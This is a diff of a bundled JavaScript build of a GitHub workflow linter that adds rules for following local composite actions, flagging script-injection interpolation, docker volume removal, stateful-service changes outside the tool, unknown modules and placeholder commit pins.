+ * Follow every local action the workflow's steps use; report SG003, SG201 and SG106 found through
+ * them; return the composite actions' `run:` scripts for the other run-reading rules.
+ */
+function followLocalActions(wf, root, steps, report) {
+    const sites = [];
+    let rootReal;
+    try {
+        rootReal = (0,external_node_fs_.realpathSync)(root);
+    }
+    catch {
+        return sites;
+    }
+    const cache = new Map();
+    let budget = MAX_LOCAL_ACTIONS;
+    const inside = (p) => p === rootReal || p.startsWith(rootReal + (external_node_path_default()).sep);
+    const load = (dirReal) => {
+        const hit = cache.get(dirReal);
+        if (hit)
+            return hit;
+        let result = { ok: false, why: 'has no action.yml or action.yaml' };
+        for (const name of ['action.yml', 'action.yaml']) {
+            const file = external_node_path_default().join(dirReal, name);
+            let size;
+            let real;
+            try {
+                if (!(0,external_node_fs_.statSync)(file).isFile())
+                    continue;
+                real = (0,external_node_fs_.realpathSync)(file);
+                size = (0,external_node_fs_.statSync)(real).size;
+            }
+            catch {
+                continue;
+            }
+            const display = external_node_path_default().relative(rootReal, file).split((external_node_path_default()).sep).join('/');
+            if (!inside(real)) {
+                result = { ok: false, why: `has ${display} linking outside the repository` };
+                break;
+            }
+            if (size > yaml_source/* MAX_YAML_BYTES */.jl) {
+                result = { ok: false, why: `has ${display} of ${size} bytes; the limit is ${yaml_source/* MAX_YAML_BYTES */.jl} (1 MiB)` };
+                break;
+            }
+            let bytes;
+            try {
+                bytes = (0,external_node_fs_.readFileSync)(real);
+            }
+            catch (err) {
+                result = {
+                    ok: false,
+                    why: `has ${display}, which cannot be read (${err.code ?? 'error'})`,
+                };
+                break;
+            }
+            const loaded = loadWorkflow(bytes, display);
+            result = loaded.ok
+                ? { ok: true, wf: loaded.workflow, display, real }
+                : {
+                    ok: false,
+                    why: `has ${display}, which is not readable YAML (line ${loaded.problems[0]?.line ?? 1}: ${loaded.problems[0]?.message ?? 'unreadable'})`,
+                };
+            break;
+        }
+        cache.set(dirReal, result);
+        return result;
+    };
+    const visit = (top, uses, withValues, judge, stack, via) => {
+        const pos = wf.at([...top.path, 'uses']);
+        const where = `step ${top.index + 1} of job '${top.jobId}'${via}`;
+        const refuse = (why, fix) => report('SG003', pos, `local action '${uses.trim()}' used by ${where} ${why}, so it cannot be checked; ${fix}`);
+        const ref = parseUses(uses);
+        if (ref.path.split('/')[0] === '..')
+            return refuse('leaves the repository', 'keep local actions inside the repository (uses: ./path/in/repo)');
+        let dirReal;
+        try {
+            dirReal = (0,external_node_fs_.realpathSync)(external_node_path_default().resolve(rootReal, ref.path));
+        }
+        catch {
+            return refuse('does not exist', 'correct the path or add the action');
+        }
+        if (!inside(dirReal))
+            return refuse('resolves outside the repository (a symbolic link)', 'keep local actions inside the repository');
+        if (stack.includes(dirReal))
+            return refuse('calls itself (a cycle of local actions)', 'remove the cycle: the runner would never finish it');
+        if (stack.length >= MAX_LOCAL_ACTION_DEPTH)
+            return refuse(`is nested deeper than ${MAX_LOCAL_ACTION_DEPTH} local actions`, 'flatten the actions');
+        if (budget-- <= 0) {
+            // Said once: every action after the budget would say the same.
+            if (budget < -1)
+                return;
+            return refuse(`is beyond the ${MAX_LOCAL_ACTIONS} local action uses one workflow may have followed`, 'split the workflow or flatten the actions');
+        }
+        const loaded = load(dirReal);
+        if (!loaded.ok)
+            return refuse(loaded.why, 'add a readable action.yml (under 1 MiB, one YAML document)');
+        const action = loaded.wf;
+        const runs = action.value.runs;
+        if (!context_isObj(runs) || typeof runs.using !== 'string')
+            return refuse(`has ${loaded.display} without runs.using`, 'declare runs.using (composite, node20, docker)');
+        if (runs.using.toLowerCase() !== 'composite')
+            return;
+        if (!Array.isArray(runs.steps))
+            return refuse(`has ${loaded.display}, a composite action without runs.steps`, 'declare its runs.steps');
+        // The action's inputs as the caller gives them (or their defaults), judged in the caller's context.
+        const declared = context_isObj(action.value.inputs) ? action.value.inputs : {};
+        const given = context_isObj(withValues) ? withValues : {};
+        const inputs = new Map();
+        const names = new Set([...Object.keys(declared), ...Object.keys(given)].map((n) => n.toLowerCase()));
+        for (const name of names) {
+            const key = Object.keys(given).find((k) => k.toLowerCase() === name);
+            const decl = Object.entries(declared).find(([k]) => k.toLowerCase() === name)?.[1];
+            const value = key !== undefined ? given[key] : context_isObj(decl) ? decl.default : undefined;
+            const reads = readsOfValue(value, judge);
+            if (reads.length > 0)
+                inputs.set(name, reads);
+        }
+        runs.steps.forEach((step, k) => {
+            if (!context_isObj(step))
+                return;
+            const p = ['runs', 'steps', k];
+            const env = stepEnvTaint(step.env, judge.env, { inputs, env: judge.env });
+            const inner = { inputs, env };
+            const line = (q) => action.at(q).line;
+            const here = ` (through ${loaded.display} line ${line([...p])}, step ${k + 1} of that action)`;
+            const targets = [];
+            if (typeof step.run === 'string')
+                targets.push({ path: [...p, 'run'], text: step.run, what: 'a run: script' });
+            const script = local_actions_githubScript(step);
+            if (script !== undefined)
+                targets.push({ path: [...p, 'with', 'script'], text: script, what: 'a github-script script:' });
+            for (const t of targets) {
+                let n = 0;
+                for (const m of t.text.matchAll(EXPRESSION)) {
+                    const reads = readsOf(m[1], inner);
+                    if (reads.length > 0) {
+                        const at = action.positionInScalar(t.path, EXPRESSION, n);
+                        report('SG201', pos, `\${{${m[1]}}} is interpolated into ${t.what} of local action ${loaded.display} (line ${at.line}), ` +
+                            `used by ${where} (script injection: it reads ${[...new Set(reads)].join(', ')}); in the action, ` +
+                            `pass it through env: and use the variable instead`);
+                    }
+                    n++;
+                }
+            }
+            if (typeof step.run === 'string') {
+                const siteEnv = literalEnvOf([step.env, ...top.envChain]);
+                const wd = step['working-directory'];
+                const site = {
+                    jobId: top.jobId,
+                    index: top.index,
+                    run: step.run,
+                    env: siteEnv,
+                    workingDirectory: wd === undefined ? '' : typeof wd === 'string' && !wd.includes('${{') ? wd : undefined,
+                    where: `${where}${here}`,
+                    at: () => pos,
+                };
+                sites.push(site);
+                if (/docker/.test(step.run))
+                    for (const c of commandsOf(step.run, siteEnv)) {
+                        const effect = volumeRemoval(c.argv);
+                        if (effect)
+                            report('SG106', pos, `'${c.argv.map((w) => w.text).join(' ')}' in ${site.where} ${effect}: the data stateguard protects; ` +
+                                `drop the flag, and change stateful services only through stateguard`);
+                    }
+            }
+            if (typeof step.uses === 'string' && parseUses(step.uses).kind === 'local')
+                visit(top, step.uses, step.with, inner, [...stack, dirReal], `${via}${here}`);
+        });
+    };
+    const wfTaint = envTaint(wf.value.env, new Set());
+    for (const s of steps) {
+        if (typeof s.step.uses !== 'string' || parseUses(s.step.uses).kind !== 'local')
+            continue;
+        const taint = envTaint(s.step.env, envTaint(s.job.env, wfTaint));
+        visit(s, s.step.uses, s.step.with, { inputs: 'all', env: taint }, [], '');
+    }
+    return sites;
+}
+
+;// CONCATENATED MODULE: ./src/lint/rules/placeholder-pin.ts
+
+const PLACEHOLDER_PIN = /@0{40}$/;
+/** A file the runner reads as a workflow (its display path, relative to the repository). */
+const RUNNER_DIR = /(?:^|\/)\.(?:github|forgejo|gitea)\/workflows\/[^/]+$/i;
+function checkPlaceholderPins(wf, steps, report) {
+    if (!RUNNER_DIR.test(wf.file.replace(/\\/g, '/')))
+        return;
+    const targets = [];
+    const jobs = wf.value.jobs;
+    if (context_isObj(jobs))
+        for (const [id, job] of Object.entries(jobs))
+            if (context_isObj(job) && typeof job.uses === 'string')
+                targets.push({ path: ['jobs', id, 'uses'], uses: job.uses });
+    for (const s of steps)
+        if (typeof s.step.uses === 'string')
+            targets.push({ path: [...s.path, 'uses'], uses: s.step.uses });
+    for (const t of targets) {
+        if (!PLACEHOLDER_PIN.test(t.uses.trim()))
+            continue;
+        report('SG111', wf.at(t.path), `'${t.uses.trim()}' is pinned to the placeholder commit (forty zeros), which does not exist: the runner ` +
+            `cannot fetch it; replace it with the commit SHA of the release you audited`);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/lint/rules/stateful-outside.ts
+/**
+ * SG109 stateful-change-outside-stateguard (docs/rules.md SG109, docs/architecture.md §9): with
+ * modules/ present, a `run:` that pulls or (re)creates a stateful module's service with compose
+ * (`docker compose pull|up`, `docker-compose pull|up`) or redeploys its stack (`docker stack deploy`)
+ * changes stateful data outside stateguard's guarded path (no guard, no verified backup, no consent).
+ * Which module a command touches is read from its words: services named (none: all of them), the
+ * project (`-p`, `COMPOSE_PROJECT_NAME`) or else the compose files (`-f`, else the working directory's
+ * default file). A word given by a variable may be anything: it counts as touching (fail closed).
+ */
+
+
+/** Compose global options that take a value (v2 and v1). */
+const stateful_outside_COMPOSE_VALUE = new Set([
+    '-f',
+    '--file',
+    '-p',
+    '--project-name',
+    '--project-directory',
+    '--env-file',
+    '--profile',
+    '--ansi',
+    '--parallel',
+    '--progress',
+    '-c',
+    '--context',
+    '-H',
+    '--host',
+    '--log-level',
+]);
+/** Options of `up`/`pull` that take a value. */
+const SUB_VALUE = new Set([
+    '--scale',
+    '-t',
+    '--timeout',
+    '--exit-code-from',
+    '--attach',
+    '--no-attach',
+    '--pull',
+    '--wait-timeout',
+    '--policy',
+]);
+const stateful_outside_DOCKER_VALUE = new Set(['-c', '--context', '-H', '--host', '--config', '-l', '--log-level']);
+const CHANGING = new Set(['up', 'pull']);
+const unknown = (w) => w.includes('$');
+function optionValue(words, i, names) {
+    const w = words[i];
+    for (const n of names) {
+        if (w === n)
+            return [words[i + 1] ?? '', 2];
+        if (n.startsWith('--') && w.startsWith(n + '='))
+            return [w.slice(n.length + 1), 1];
+        if (!n.startsWith('--') && w.startsWith(n) && w.length > n.length)
+            return [w.slice(n.length), 1];
+    }
+    return undefined;
+}
+/** A compose `up`/`pull` or a `docker stack deploy`, read from a command's words. */
+function statefulCall(argv) {
+    const words = argv.map((w) => w.text);
+    const prog = words[0].slice(words[0].lastIndexOf('/') + 1).toLowerCase();
+    let i;
+    if (prog === 'docker-compose')
+        i = 1;
+    else if (prog === 'docker') {
+        i = 1;
+        while (i < words.length && words[i].startsWith('-'))
+            i += stateful_outside_DOCKER_VALUE.has(words[i]) ? 2 : 1;
+        if (words[i] === 'stack' && words[i + 1] === 'deploy') {
+            const positional = [];
+            for (let j = i + 2; j < words.length; j++) {
+                const w = words[j];
+                if (w.startsWith('-')) {
+                    if (['-c', '--compose-file', '--resolve-image', '--prune-only'].includes(w))
+                        j++;
+                    continue;
+                }
+                positional.push(w);
+            }
+            return { kind: 'stack', stack: positional[positional.length - 1] };
+        }
+        if (words[i] !== 'compose')
+            return undefined;
+        i++;
+    }
+    else
+        return undefined;
+    const call = { kind: 'compose', sub: '', files: [], services: [] };
+    for (; i < words.length; i++) {
+        const w = words[i];
+        if (!call.sub) {
+            if (!w.startsWith('-')) {
+                call.sub = w;
+                continue;
+            }
+            const f = optionValue(words, i, ['-f', '--file']);
+            const p = optionValue(words, i, ['-p', '--project-name']);
+            const d = optionValue(words, i, ['--project-directory']);
+            if (f)
+                call.files.push(f[0]);
+            else if (p)
+                call.project = p[0];
+            else if (d)
+                call.projectDirectory = d[0];
+            if (f || p || d)
+                i += (f ?? p ?? d)[1] - 1;
+            else if (stateful_outside_COMPOSE_VALUE.has(w))
+                i++;
+            continue;
+        }
+        if (w.startsWith('-')) {
+            if (SUB_VALUE.has(w))
+                i++;
+            continue;
+        }
+        call.services.push(w);
+    }
+    return CHANGING.has(call.sub) ? call : undefined;
+}
+/** The stateful modules a call touches. */
+function touched(call, site, root, modules) {
+    const stateful = modules.filter((m) => m.stateful);
+    if (call.kind === 'stack')
+        return stateful.filter((m) => m.runtime === 'swarm' && (call.stack === undefined || unknown(call.stack) || call.stack === m.project));
+    const project = call.project ?? site.env.get('COMPOSE_PROJECT_NAME');
+    const dir = site.workingDirectory === undefined
+        ? undefined
+        : external_node_path_default().resolve(root, site.workingDirectory, call.projectDirectory ?? '');
+    return stateful.filter((m) => {
+        if (m.runtime !== 'compose')
+            return false;
+        const services = call.services.length === 0 || call.services.some(unknown) || call.services.includes(m.service);
+        if (!services)
+            return false;
+        if (project !== undefined)
+            return unknown(project) || project === m.project;
+        if (dir === undefined || (call.projectDirectory !== undefined && unknown(call.projectDirectory)))
+            return true;
+        if (call.files.length === 0)
+            return external_node_path_default().dirname(m.composePath) === dir;
+        return call.files.some((f) => unknown(f) || external_node_path_default().resolve(dir, f) === m.composePath);
+    });
+}
+function checkStatefulOutside(root, modules, triggers, sites, report) {
+    if (!modules.modules.some((m) => m.stateful))
+        return;
+    for (const site of sites) {
+        if (!/docker/.test(site.run) && ![...site.env.values()].some((v) => /docker/.test(v)))
+            continue;
+        for (const c of commandsOf(site.run, site.env)) {
+            const call = statefulCall(c.argv);
+            if (!call)
+                continue;
+            const hit = touched(call, site, root, modules.modules);
+            if (hit.length === 0)
+                continue;
+            const first = c.argv[0];
+            report('SG109', site.at(first.start, first.text), `'${c.argv.map((w) => w.text).join(' ')}' in ${site.where} ${call.kind === 'stack' ? 'redeploys' : call.sub === 'pull' ? 'pulls a new image for' : 'recreates'} the service of stateful module${hit.length > 1 ? 's' : ''} ${hit
+                .map((m) => `'${m.name}' (${m.service})`)
+                .join(', ')} outside stateguard (this workflow runs on ${triggers.length > 0 ? triggers.join(', ') : 'no trigger'}): no guard, no verified backup, no consent; change it with stateguard upgrade or apply from a ` +
+                `workflow_dispatch workflow, or leave the stateful service${hit.length > 1 ? 's' : ''} out of this command`);
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./src/lint/rules/unknown-module.ts
+/**
+ * SG110 unknown-module (docs/rules.md SG110, docs/architecture.md §9): a stateguard action step
+ * (`with: module: X`) or CLI call (`stateguard <command> --module X`) names a module the repository
+ * does not declare under modules/. Checked only when the repository has modules/ and the call reads
+ * the default modules (no `modules`/`root` of its own); a module given by an expression or a
+ * variable is the operator's to type and is not checked.
+ */
+
+
+
+const dynamic = (v) => v.includes('${{') || v.includes('$');
+function unknownMessage(name, what, modules) {
+    const known = [...modules.names].sort();
+    return `${what} names module '${name}', which the repository does not declare (modules/*/module.yaml declares ${known.length > 0 ? known.map((n) => `'${n}'`).join(', ') : 'none'}): stateguard would refuse it at run time; correct the name, or add modules/${name}/module.yaml`;
+}
+function checkUnknownModules(modules, steps, sites, at, report) {
+    for (const s of steps) {
+        if (stateguardCommand(s.step) === undefined || !context_isObj(s.step.with))
+            continue;
+        const w = s.step.with;
+        if (w.modules !== undefined || (w.root !== undefined && w.root !== '.'))
+            continue;
+        const m = w.module;
+        if (typeof m !== 'string' || m.trim() === '' || dynamic(m))
+            continue;
+        if (!modules.names.has(m.trim()))
+            report('SG110', at(s), unknownMessage(m.trim(), `step ${s.index + 1} of job '${s.jobId}'`, modules));
+    }
+    for (const site of sites) {
+        if (!/stateguard|cli\.js/i.test(site.run))
+            continue;
+        for (const c of commandsOf(site.run, site.env)) {
+            const cli = stateguardCli(c.argv);
+            if (!cli)
+                continue;
+            const args = cli.args.map((a) => a.text);
+            if (args.some((a) => /^--(?:modules|root)(?:=|$)/.test(a)))
+                continue;
+            cli.args.forEach((word, j) => {
+                const value = word.text === '--module'
+                    ? cli.args[j + 1]
+                    : word.text.startsWith('--module=')
+                        ? { ...word, text: word.text.slice(9) }
+                        : undefined;
+                if (!value || value.text === '' || dynamic(value.text) || modules.names.has(value.text))
+                    return;
+                report('SG110', site.at(word.start, word.text), unknownMessage(value.text, `'stateguard ${cli.command} --module ${value.text}' in ${site.where}`, modules));
+            });
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./src/lint/rules/modules.ts
+/**
+ * The repository's modules as lint-workflows sees them (docs/architecture.md §9): read with the
+ * project's own loader (src/model/module.ts) from `modules/*\/module.yaml` when the repository has a
+ * `modules/` directory. A module.yaml left out for its own problems still counts as declared (its
+ * name, where readable): `validate` reports it; a reference to it is not "unknown".
+ */
+
+
+
+/** The glob every stateguard command reads modules with by default (src/commands/spec.ts MODULES_INPUT). */
+const DEFAULT_MODULES_GLOB = 'modules/*/module.yaml';
+/** undefined when the repository has no modules/ directory (the module rules then have nothing to check). */
+function readRepoModules(root) {
+    try {
+        if (!(0,external_node_fs_.statSync)(external_node_path_default().join(root, 'modules')).isDirectory())
+            return undefined;
+    }
+    catch {
+        return undefined;
+    }
+    let loaded;
+    try {
+        loaded = (0,model_module/* loadModules */.o_)(root, DEFAULT_MODULES_GLOB, root);
+    }
+    catch {
+        return undefined;
+    }
+    const names = new Set([...loaded.modules.map((m) => m.name), ...(loaded.invalid?.keys() ?? [])]);
+    return {
+        names,
+        modules: loaded.modules.map((m) => ({
+            name: m.name,
+            stateful: m.class === 'stateful',
+            runtime: m.runtime,
+            project: m.compose.project,
+            service: m.compose.service,
+            composePath: m.compose.path,
+        })),
+    };
+}
+
+;// CONCATENATED MODULE: ./src/lint/rules/index.ts
+
+
+
+
+
+
+
+function checkRepository(wf, ctx) {
+    const problems = [];
+    const report = reporter(wf.file, problems);
+    const triggers = triggersOf(wf.value.on);
+    const steps = stepsOf(wf);
+    const sites = workflowRunSites(wf);
+    if (ctx.root !== undefined)
+        sites.push(...followLocalActions(wf, ctx.root, steps, report));
+    checkPrCodeFetch(triggers, sites, report);
+    if (ctx.root !== undefined && ctx.modules !== undefined) {
+        checkStatefulOutside(ctx.root, ctx.modules, triggers, sites, report);
+        checkUnknownModules(ctx.modules, steps, sites, (s) => wf.at([...s.path, 'uses']), report);
+    }
+    checkPlaceholderPins(wf, steps, report);
+    return problems;
+}
+
 ;// CONCATENATED MODULE: ./src/lint/lint.ts
 /**
  * lint-workflows: find the workflow files, read each safely, run GitHub's parser and stateguard's
  * rules, and return every problem sorted. A file that cannot be parsed is a problem (SG001), never
  * a crash; a path that cannot be read at all is an error the command turns into exit 3.
  */
+
+
 
 
 
@@ -20136,11 +21583,19 @@ function findWorkflowFiles(cwd, paths) {
     return [...found.values()].sort((a, b) => (a.display < b.display ? -1 : a.display > b.display ? 1 : 0));
 }
 /** Every unsuppressed problem of one workflow text (bytes as read from disk). Never throws. */
-async function lintWorkflowBytes(bytes, file) {
-    return (await lintWorkflowText(bytes, file)).problems;
+async function lintWorkflowBytes(bytes, file, repo = {}) {
+    return (await lintWorkflowText(bytes, file, repo)).problems;
 }
-/** Every problem of one workflow text, and the ones inline comments suppressed. Never throws. */
-async function lintWorkflowText(bytes, file) {
+/**
+ * Every problem of one workflow text, and the ones inline comments suppressed. Never throws. `repo`
+ * is the repository it is linted in (local actions and modules/ are read from its root; without
+ * one they are not). Each message is one line naming the rule's section of docs/rules.md.
+ */
+async function lintWorkflowText(bytes, file, repo = {}) {
+    const r = await lintOneWorkflow(bytes, file, repo);
+    return { problems: r.problems.map(finishMessage), suppressed: r.suppressed.map(finishMessage) };
+}
+async function lintOneWorkflow(bytes, file, repo) {
     const yamlProblem = (line, column, message) => ({
         file,
         line,
@@ -20174,6 +21629,7 @@ async function lintWorkflowText(bytes, file) {
             message: e.message,
         }));
         problems.push(...checkWorkflow(wf));
+        problems.push(...checkRepository(wf, repo));
         return applySuppressions(wf.text, file, problems);
     }
     catch (err) {
@@ -20250,6 +21706,7 @@ function applySuppressions(text, file, all) {
 }
 async function lintWorkflows(cwd, paths) {
     const targets = findWorkflowFiles(cwd, paths);
+    const repo = { root: external_node_path_default().resolve(cwd), modules: readRepoModules(external_node_path_default().resolve(cwd)) };
     const problems = [];
     const suppressed = [];
     for (const t of targets) {
@@ -20265,17 +21722,17 @@ async function lintWorkflows(cwd, paths) {
             throw new UnreadablePathError(t.display, err.code ?? (0,src_errors/* errorMessage */.gJ)(err));
         }
         if (!bytes) {
-            problems.push({
+            problems.push(finishMessage({
                 file: t.display,
                 line: 1,
                 column: 1,
                 rule: 'SG001',
                 severity: ruleById('SG001').severity,
                 message: `file is ${size} bytes; the limit is ${yaml_source/* MAX_YAML_BYTES */.jl} (1 MiB)`,
-            });
+            }));
             continue;
         }
-        const r = await lintWorkflowText(bytes, t.display);
+        const r = await lintWorkflowText(bytes, t.display, repo);
         problems.push(...r.problems);
         suppressed.push(...r.suppressed);
     }
@@ -42763,8 +44220,8 @@ __nccwpck_require__.d(__webpack_exports__, {
   m0: () => (/* binding */ cliMain)
 });
 
-// EXTERNAL MODULE: ./src/commands/index.ts + 70 modules
-var src_commands = __nccwpck_require__(3866);
+// EXTERNAL MODULE: ./src/commands/index.ts + 82 modules
+var src_commands = __nccwpck_require__(6808);
 // EXTERNAL MODULE: ./src/commands/inputs.ts
 var inputs = __nccwpck_require__(7521);
 // EXTERNAL MODULE: ./src/errors.ts
